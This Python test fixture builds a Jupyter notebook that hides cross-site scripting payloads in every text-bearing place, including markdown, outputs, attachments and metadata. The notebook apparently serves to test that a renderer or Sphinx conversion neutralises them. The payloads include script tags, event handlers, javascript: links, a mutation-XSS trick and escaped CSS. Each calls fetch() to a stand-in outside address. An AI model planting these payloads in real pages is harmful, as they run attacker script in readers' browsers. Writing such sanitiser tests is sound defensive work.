"""A notebook that tries, in every place that holds text, to run a script or to reach a machine."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

OUTSIDE = "http://198.51.100.1"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg=="


def script(name: str) -> str:
    """JavaScript that leaves a trace of itself."""
    return f"(window.top.ran = window.top.ran || []).push('{name}'); fetch('{OUTSIDE}/{name}')"


def payloads(place: str) -> str:
    """HTML that runs scripts in as many ways as browsers know, and asks for pictures and styles."""
    code = script(place).replace('"', "&quot;")
    return "\n".join(
        [
            f"<script>{script(place)}</script>",
            f'<img src="x" onerror="{code}">',
            f'<svg onload="{code}"><script>{script(place)}</script>'
            f'<animate onbegin="{code}" attributeName="x" dur="1s"/>'
            f'<image href="{OUTSIDE}/{place}-svg.png"/><use href="{OUTSIDE}/{place}.svg#a"/>'
            f'<foreignObject><iframe src="javascript:{code}"></iframe></foreignObject></svg>',
            f'<iframe src="javascript:{code}"></iframe>',
            f'<iframe srcdoc="&lt;script&gt;{code}&lt;/script&gt;"></iframe>',
            f'<a id="{place}" href="javascript:{code}">a link</a>',
            f'<a href="JaVaScRiPt&colon;{code}">one more</a>',
            f'<details open ontoggle="{code}"><summary>a fold</summary>folded text</details>',
            f'<video poster="{OUTSIDE}/{place}-poster.png" src="{OUTSIDE}/{place}.mp4"'
            f' autoplay onerror="{code}"></video>',
            f'<object data="{OUTSIDE}/{place}.swf"></object><embed src="{OUTSIDE}/{place}.pdf">',
            f'<link rel="stylesheet" href="{OUTSIDE}/{place}.css">',
            f'<style>@import url("{OUTSIDE}/{place}-import.css"); body {{ display: none }}</style>',
            f'<p style="background: url({OUTSIDE}/{place}-style.png)">coloured</p>',
            f'<p style="background-image: u\\72l({OUTSIDE}/{place}-escaped.png)">coloured</p>',
            f'<img alt="beacon" src="{OUTSIDE}/{place}-beacon.png" srcset="{OUTSIDE}/2.png 2x">',
            f'<img alt="beacon" src="//198.51.100.1/{place}-slashes.png">',
            f'<meta http-equiv="refresh" content="0; url={OUTSIDE}/{place}">',
            f'<base href="{OUTSIDE}/">',
            f'<form action="{OUTSIDE}"><input autofocus onfocus="{code}"><button>go</button></form>',
            f'<section data-background-iframe="{OUTSIDE}/{place}.html">a section</section>',
            f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
            f'onerror={code}&gt;"></table></mtext></math>',
            f'<p tabindex="0" onclick="{code}" onmouseover="{code}">the harmless words</p>',
        ]
    )


def hostile_notebook(*, for_sphinx: bool = False) -> NotebookNode:
    """Return the notebook; its own words stand beside the payloads, to be found again.

    Sphinx refuses a lexer that it doesn't know and a width that is no number.
    """
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script("svg")}</script></svg>'
    outputs = [
        new_output("stream", name="stdout", text=payloads("stdout")),
        new_output("stream", name="stderr", text=payloads("stderr")),
        *(
            new_output("display_data", data={kind: content, "text/plain": payloads("plain")})
            for kind, content in {
                "text/html": payloads("html"),
                "text/markdown": payloads("markdown-output"),
                "text/latex": rf"$\text{{{payloads('latex')}}}$",
                "application/javascript": script("javascript"),
                "image/svg+xml": svg,
            }.items()
        ),
        new_output(
            "display_data",
            data={"image/png": PNG, "text/plain": "<Figure>"},
            metadata={
                "image/png": {
                    "alt": f'" onload="{script("alt")}',
                    "width": 1 if for_sphinx else '1" onload="x',
                }
            },
        ),
        new_output("error", ename=payloads("ename"), evalue="", traceback=[payloads("trace")]),
    ]
    # A bracket would end the attributes.
    token = "top.ran=Array(1)"
    formulas = (
        rf"The formula $x + y$, and $\text{{<img src=x onerror={script('text')}>}}$, "
        rf"and $\href{{javascript:{script('href')}}}{{z}}$, "
        rf'and $\mmlToken{{mi}}[href="javascript:{token}"]{{q}}$, '
        rf"and $\bbox[background-image:url({OUTSIDE}/bbox.png)]{{w}}$."
    )
    picture = {"a.png": {"image/png": PNG}, "b.png": {'image/x" onerror="x': PNG}}
    cells = [
        new_markdown_cell(f"# A title <script>{script('title')}</script>", id="title"),
        new_markdown_cell(f"## Text\n\n{payloads('prose')}\n\nAfter it.", id="prose"),
        new_markdown_cell(f"## Formulas\n\n{formulas}", id="formulas"),
        new_markdown_cell(f"[a link](javascript:{script('link')}) <{OUTSIDE}>", id="link"),
        new_markdown_cell(
            f"![pasted](attachment:a.png) ![b](attachment:b.png) ![out]({OUTSIDE}/picture.png)",
            id="pasted",
            attachments=picture,
        ),
        new_code_cell(f"'''{payloads('code')}'''", id="code", execution_count=1, outputs=outputs),
        new_markdown_cell(payloads("note"), id="note"),
    ]
    kinds = ("slide", "slide", "slide", "slide", "-", "slide", "notes")
    for cell, kind in zip(cells, kinds, strict=True):
        cell.metadata["slideshow"] = {"slide_type": kind}
    cells[5].metadata["magics_language"] = f'"><script>{script("magics")}</script>'
    lexer = "ipython3" if for_sphinx else f'ipython"><script>{script("lexer")}</script>'
    language = {"name": "python", "pygments_lexer": lexer}
    return new_notebook(cells=cells, metadata={"language_info": language})
